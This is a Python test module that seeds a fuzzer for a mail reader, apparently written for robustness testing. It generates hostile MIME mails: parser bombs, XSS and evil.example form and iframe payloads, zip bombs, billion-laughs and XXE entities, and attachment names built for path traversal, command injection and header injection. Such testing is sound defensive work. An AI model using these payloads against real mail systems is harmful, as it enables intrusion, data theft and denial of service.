################################################################
# Hostile mails, as many as asked for
################################################################
#
# Each kind below is a way to make a reader work far more than its bytes are worth, to make two readers see two mails,
# or to break out of where a name or a text is put. A seed gives the same mail every time.

import base64
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

from sandbox.ministry.samples import letters
from tests.graph.mails import HEAD, multipart, part, text
from tests.graph.outlook_files import annex, compound, msg, tnef

KB = 1024
SAMPLES = [raw for _, raw in letters()]
# The official whose forwards are unwrapped, so that what a text says is read as well.
FROM_WITHIN = HEAD.replace(b"Audit Bureau <oversight@audit.example>", b"Huda <huda@ministry.example>")

type Kind = Callable[[random.Random], bytes]
KINDS: list[Kind] = []


def kind(make: Kind) -> Kind:
    KINDS.append(make)
    return make


def hostile(seed: int) -> bytes:
    """Return mail number *seed*: its kind by turns, the rest by chance."""
    return KINDS[seed % len(KINDS)](random.Random(seed))


def _page(body: bytes) -> bytes:
    return FROM_WITHIN + b"Content-Type: text/html; charset=utf-8\r\n\r\n" + body


def _size(chance: random.Random) -> int:
    return chance.choice((1, 8, 64, 256, 420)) * KB


def _times(piece: bytes, size: int) -> bytes:
    return piece * (size // len(piece) + 1)


def _noise(chance: random.Random, size: int) -> bytes:
    return chance.randbytes(size)


@kind
def nested_boundaries(chance: random.Random) -> bytes:
    levels = chance.randint(1, 300)
    head = b"".join(b'Content-Type: multipart/mixed; boundary="-%d"\r\n\r\n---%d\r\n' % (n, n) for n in range(levels))
    return FROM_WITHIN + head + _times(b"---x\r\n", _size(chance))


@kind
def one_boundary_for_all_levels(chance: random.Random) -> bytes:
    piece = b"--q\r\nContent-Type: multipart/mixed; boundary=%s\r\n\r\n" % chance.choice((b"q", b'"q "', b"q--", b"qq"))
    return FROM_WITHIN + b"Content-Type: multipart/mixed; boundary=q\r\n\r\n" + _times(piece, _size(chance))


@kind
def parts_without_number(chance: random.Random) -> bytes:
    piece = chance.choice((b"--q\r\n\r\nx\r\n", b"--q\r\n", b"--q\r\nContent-Type: message/rfc822\r\n\r\n\r\n"))
    return FROM_WITHIN + b"Content-Type: multipart/mixed; boundary=q\r\n\r\n" + _times(piece, _size(chance))


@kind
def endless_headers(chance: random.Random) -> bytes:
    piece = chance.choice(
        (b"X-A: y\r\n", b"X-A: y\r\n folded\r\n", b"Received: (" * 3 + b"\r\n", b"From: a@b\r\n", b"\t \r\n")
    )
    return FROM_WITHIN + _times(piece, _size(chance)) + b"\r\nx"


@kind
def one_endless_header(chance: random.Random) -> bytes:
    name = chance.choice(
        (b"Subject", b"To", b"References", b"Authentication-Results", b"Content-Type", b"X-Tarasul-Key")
    )
    piece = chance.choice(
        (
            b"=?utf-8?q?x?= ",
            b"=?a?q?",
            b"<a@b>,",
            b"(",
            b'"\\',
            b';a="\\',
            b"a*0*=%ff;",
            b"<a b>",
            b"((dmarc=pass;",
            b",;:<>",
        )
    )
    return FROM_WITHIN + name + b": " + _times(piece, min(_size(chance), 250 * KB)) + b"\r\n\r\nx"


@kind
def base64_that_is_none(chance: random.Random) -> bytes:
    body = chance.choice((_noise(chance, _size(chance)), _times(b"=", _size(chance)), _times(b"A=\r\n", _size(chance))))
    return multipart(
        b"Content-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body,
        head=FROM_WITHIN,
    )


@kind
def quoted_printable_that_is_none(chance: random.Random) -> bytes:
    body = _times(chance.choice((b"=", b"=\r\n", b"=3D=3", b"= \t\r\n")), _size(chance))
    return FROM_WITHIN + b"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + body


@kind
def mails_in_mails(chance: random.Random) -> bytes:
    if chance.random() < 0.5:
        return FROM_WITHIN + _times(b"Content-Type: message/rfc822\r\n\r\n", _size(chance))
    mail = FROM_WITHIN + b"\r\n" + _times(b"words ", _size(chance) // 4)
    for level in range(chance.randint(2, 14)):
        mail = multipart(
            part("message/rfc822", mail, encoded=chance.random() < 0.3), boundary=f"b{level}", head=FROM_WITHIN
        )
    return mail


@kind
def pages_of_nothing_but_marks(chance: random.Random) -> bytes:
    piece = chance.choice(
        (
            b"<b>",
            b"<a x='",
            b"<!--",
            b"<style>",
            b"&#x",
            b"&amp;",
            b"<p><td>",
            b"<![if",
            b"</",
            b"<pre>",
            b'<a href="cid:',
        )
    )
    return _page(_times(piece, _size(chance)))


@kind
def pages_that_fetch_and_run(chance: random.Random) -> bytes:
    piece = chance.choice(
        (
            b"<script>alert(1)</script><img src=x onerror=alert(1)>",
            b"<svg/onload=alert(1)><math><mtext></p><style><img src=x onerror=alert(1)>",
            b"<link rel=stylesheet href=https://evil.example/a.css><style>@import url(https://evil.example)</style>",
            b"<a href='java\tscript:alert(1)'>x</a><iframe src=//evil.example></iframe><base href=//evil.example>",
            b"<form action=https://evil.example><input name=p></form><meta http-equiv=refresh content='0;url=//evil'>",
        )
    )
    return _page(_times(piece, _size(chance) // 4))


@kind
def letters_of_many_charsets(chance: random.Random) -> bytes:
    name = chance.choice(
        ("utf-7", "utf-16", "idna", "punycode", "cp1256", "iso-8859-6", "hz", "iso-2022-jp", "x-none", "utf-32")
    )
    body = chance.choice(
        (_noise(chance, _size(chance)), _times(b"+2AA-", _size(chance)), _times(b"\xd8\xa7\xc7", _size(chance)))
    )
    return FROM_WITHIN + f"Content-Type: text/plain; charset={name}\r\n\r\n".encode() + body


@kind
def texts_encoded_again_and_again(chance: random.Random) -> bytes:
    words = "كتاب وارد من ديوان المحاسبة "
    for _ in range(chance.randint(1, 5)):
        words = words.encode().decode(chance.choice(("latin-1", "cp1256")), "replace")
    return FROM_WITHIN + b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + _times(words.encode(), _size(chance))


@kind
def forwards_without_end(chance: random.Random) -> bytes:
    block = "من: أ <a@ministry.example>\nتم الإرسال: اليوم\nإلى: ب\nالموضوع: إعادة توجيه: س\n\n"
    piece = chance.choice(
        (block, "From: a@b\n", "\n", ">" * 50 + "\n", "To: a;\n b;\n", "-----\n\n", "De : x <a@b>\nÀ : y\n")
    )
    return FROM_WITHIN + b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + _times(piece.encode(), _size(chance))


@kind
def winmail(chance: random.Random) -> bytes:
    rtf = struct.pack("<4I", 0, 9, 0x75465A4C, 0) + _noise(chance, _size(chance))
    bomb = struct.pack("<4I", 0, 9, 0x75465A4C, 0) + _times(b"\xff\x0c\xff", _size(chance))
    said = chance.choice(({0x1009: rtf}, {0x1009: bomb}, {0x1013: _times(b"<b>", _size(chance))}, {0x1000: "x" * KB}))
    raw = tnef(said, [{0x3707: "a", 0x3701: b"x"}] * chance.choice((1, 50, 3_000)))
    inner = raw
    for _ in range(chance.randint(0, 12)):
        inner = tnef({0x37: "x"}, [{0x3701: inner}])
    return multipart(part("application/ms-tnef", damaged(inner, chance), name="winmail.dat"), head=FROM_WITHIN)


@kind
def outlook_files(chance: random.Random) -> bytes:
    tree = msg({0x37: "x", 0x1000: "y" * chance.randint(0, 9_000)}, [annex({0x3707: "a", 0x3701: b"x" * 70})] * 20)
    for _ in range(chance.randint(0, 13)):
        tree = msg({0x37: "x"}, [annex({0x3705: 5}, tree)])
    return multipart(
        part("application/vnd.ms-outlook", damaged(compound(tree), chance), name="a.msg"), head=FROM_WITHIN
    )


@kind
def rich_text(chance: random.Random) -> bytes:
    piece = chance.choice(
        (b"{", b"\\u1603?", b"\\'df", b"{\\*\\htmltag64 <p>}", b"\\f1", b"}", b"\\par", b"\\bin9999999 ")
    )
    rtf = b"{\\rtf1\\ansi\\fromhtml1 " + _times(piece, _size(chance))
    packed = struct.pack("<4I", 0, len(rtf), 0x414C454D, 0) + rtf
    return multipart(part("application/ms-tnef", tnef({0x1009: packed}), name="winmail.dat"), head=FROM_WITHIN)


@kind
def signatures(chance: random.Random) -> bytes:
    oid = bytes.fromhex("06092a864886f70d010702")
    raw = (
        b"\x30\x80"
        + oid
        + _times(chance.choice((b"\xa0\x80", b"\x30\x80", b"\x24\x80", b"\x04\x00", b"\x84\xff")), _size(chance))
    )
    head = b"Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\n"
    return FROM_WITHIN + head + b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(raw)


@kind
def calendars(chance: random.Random) -> bytes:
    piece = chance.choice(
        (b"SUMMARY:x\r\n", b"\r\n ", b"DTSTART;TZID=" + b"x" * 99, b"X;" * 40 + b":\r\n", b"BEGIN:VEVENT\r\n")
    )
    body = b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n" + _times(piece, _size(chance))
    return multipart(part("text/calendar; charset=utf-8", body), head=FROM_WITHIN)


@kind
def links(chance: random.Random) -> bytes:
    piece = chance.choice(
        (
            b"https://a.sharepoint.com/:b:/g/x",
            b"<a href='https://a.sharepoint.com/:b:/g/%d'>" % chance.randint(0, 9),
            b"https://sharepoint",
            b"<a href=https://x.safelinks.protection.outlook.com/?url=https%3A%2F%2F1drv.ms%2Fx>",
            b"https://1drv.ms/" + b"a/" * 900 + b" ",
        )
    )
    return _page(_times(piece, _size(chance)))


@kind
def archives_that_explode(chance: random.Random) -> bytes:
    """What an office program would unpack: it is kept as it is, and nobody here opens it."""
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, content in (("word/document.xml", bytes(chance.choice((1, 5)) * KB * KB)), ("../../evil", b"x")):
            archive.writestr(zipfile.ZipInfo(name, (2026, 11, 22, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    laughs = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "' + b"&a;" * 500 + b'">]><l>&b;</l>'
    content = chance.choice(
        (packed.getvalue(), laughs, zlib.compress(bytes(KB * KB)), b'<!ENTITY x SYSTEM "file:///etc/passwd">')
    )
    return multipart(text("x"), part("application/zip", content, name="a.docx"), head=FROM_WITHIN)


@kind
def names(chance: random.Random) -> bytes:
    return multipart(*(hostile_name(chance) for _ in range(chance.choice((1, 10, 40)))), head=FROM_WITHIN)


@kind
def words_outside_the_parts(chance: random.Random) -> bytes:
    said = _times(
        chance.choice((b"-", b"This is a multi-part message in MIME format.", b"--q", b"\r\n", b"x ")), _size(chance)
    )
    return (
        FROM_WITHIN + b"Content-Type: multipart/mixed; boundary=q\r\n\r\n" + said + b"\r\n--q\r\n\r\nx\r\n--q--" + said
    )


@kind
def damaged_letters(chance: random.Random) -> bytes:
    return damaged(chance.choice(SAMPLES), chance, times=20)


@kind
def anything(chance: random.Random) -> bytes:
    return _noise(chance, _size(chance))


def damaged(raw: bytes, chance: random.Random, times: int = 4) -> bytes:
    """*raw* with some of its bytes changed, cut out or doubled; sometimes whole."""
    for _ in range(chance.randint(0, times)):
        at, length = chance.randrange(len(raw) or 1), chance.randrange(1, 64)
        piece = chance.choice(
            (b"", _noise(chance, length), raw[at : at + length] * 2, b"\xff\xff\xff\x7f", b"\r\n\r\n")
        )
        raw = raw[:at] + piece + raw[at + chance.choice((0, len(piece), length)) :]
    return raw


HOSTILE_NAMES = (
    *(
        "../../etc/passwd",
        "..\\..\\windows\\system32\\a.dll",
        "/etc/shadow",
        "C:\\x",
        "\\\\host\\share",
        "file:///etc/x",
    ),
    *("CON", "nul.pdf", "aux", "COM1.txt", "lpt9", "PRN .pdf", "CoN.tar.gz", "conin$", "COM¹", "nul\u200f.pdf"),
    *(
        "a\x00.pdf",
        "a\u202efdp.exe",
        "\u2066x\u2069.pdf",
        "a\u200b.pdf",
        "x\ufeff",
        "\u202e",
        "a\ud800b",
        "\U000e0041.pdf",
    ),
    *("．．／x", "a\u2215b", "a\u2044b", "a\uff0fb", "a\u29f8b", "раураl.pdf", "a.pdf\u3164", "é.pdf", "e\u0301.pdf"),
    *(
        " . ",
        "...",
        "",
        "\t",
        "-rf",
        "~",
        "$(rm -rf /)",
        "`x`",
        "%2e%2e%2fx",
        "a\r\nX-Evil: 1",
        "a;b",
        'a"b',
        "<b>x</b>",
    ),
    *(
        "x" * 10_000 + ".pdf",
        "ك" * 10_000 + ".pdf",
        "😀" * 5_000,
        "a." + "b" * 5_000,
        "كتاب\u200cها.pdf",
        "[x](http://evil)",
    ),
)


def hostile_name(chance: random.Random) -> bytes:
    """A part whose name is one of those, or some of them together, in one of the ways in which names are written."""
    name = "".join(chance.choice(HOSTILE_NAMES) for _ in range(chance.choice((1, 1, 1, 2, 3))))[:12_000]
    raw = name.encode("utf-8", "surrogatepass")
    quoted = "".join(f"%{byte:02X}" for byte in raw).encode()
    packed = base64.b64encode(raw)
    written = chance.choice(
        (
            b'filename="' + raw.replace(b"\r\n", b"\r\n ").replace(b'"', b'\\"') + b'"',
            b"filename*=utf-8''" + quoted,
            b"filename*0*=utf-8''"
            + quoted[: len(quoted) // 6 * 3]
            + b"; filename*1*="
            + quoted[len(quoted) // 6 * 3 :],
            b'filename="=?utf-8?B?' + packed + b'?="',
            b"filename*=windows-1256'ar'" + quoted,
            b"filename*1*=" + quoted + b"; filename*7=x",
            b'filename="=?utf-8?Q?' + raw[:200].hex("=").upper().encode() + b'"',
        )
    )
    return b"Content-Type: application/pdf\r\nContent-Disposition: attachment; " + written + b"\r\n\r\n%PDF"
